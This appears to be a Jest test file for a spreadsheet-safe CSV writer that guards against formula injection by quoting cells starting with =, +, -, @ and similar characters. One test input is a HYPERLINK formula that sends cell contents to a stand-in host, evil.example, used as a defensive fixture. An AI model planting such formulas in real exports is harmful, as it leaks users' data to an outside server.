import {
  readSpreadsheetSafeCell,
  spreadsheetSafeCell,
  startsLikeFormula,
  writeSpreadsheetSafeCsv,
} from '../../../server/domain/csv/spreadsheetSafe';

describe('spreadsheetSafeCell and readSpreadsheetSafeCell', () => {
  test.each([
    ['=SUM(A1:A2)', "'=SUM(A1:A2)"],
    ['+48 75 123', "'+48 75 123"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTab', "'\tTab"],
    ['\rCR', "'\rCR"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
    // a cell that itself starts with a quote before a formula gets one more, so it reads back as it was
    ["'=quoted", "''=quoted"],
    ["''-5", "'''-5"],
  ])('writes %j as %j and reads it back', (cell, written) => {
    expect(spreadsheetSafeCell(cell)).toBe(written);
    expect(readSpreadsheetSafeCell(written)).toBe(cell);
  });

  test.each([['Grenzraum'], ['5-Jahres-Plan'], ['a=b'], [' =x'], [''], ["'Kreis'"], ["'"]])('leaves %j as it is, both ways', (cell) => {
    expect(startsLikeFormula(cell)).toBe(false);
    expect(spreadsheetSafeCell(cell)).toBe(cell);
    expect(readSpreadsheetSafeCell(cell)).toBe(cell);
  });

  test('reading removes exactly one quote, and only before what starts like a formula', () => {
    expect(readSpreadsheetSafeCell("''=x")).toBe("'=x");
    expect(readSpreadsheetSafeCell("'=x")).toBe('=x');
    expect(readSpreadsheetSafeCell("'x")).toBe("'x");
  });
});

describe('writeSpreadsheetSafeCsv', () => {
  test('quotes separators, quotes, line breaks and outer spaces, with CRLF rows', () => {
    expect(writeSpreadsheetSafeCsv([['de', 'pl'], ['a,b', 'x"y'], ['Zeile\nzwei', ' Rand'], ['', 'leer']])).toBe(
      'de,pl\r\n"a,b","x""y"\r\n"Zeile\nzwei"," Rand"\r\n,leer\r\n',
    );
  });

  test('writes a cell that starts like a formula after a quote, quoted', () => {
    expect(writeSpreadsheetSafeCsv([['=HYPERLINK("http://evil.example/?d="&A1;"wniosek")', '-5', '@x', 'ok']])).toBe(
      '"\'=HYPERLINK(""http://evil.example/?d=""&A1;""wniosek"")","\'-5","\'@x",ok\r\n',
    );
  });

  test('writes TSV with LF rows when asked', () => {
    expect(writeSpreadsheetSafeCsv([['a\tb', 'c'], ['+1', 'd']], { delimiter: '\t', recordDelimiter: '\n' })).toBe('"a\tb"\tc\n"\'+1"\td\n');
  });

  test('writes nothing for no rows', () => {
    expect(writeSpreadsheetSafeCsv([])).toBe('');
  });
});
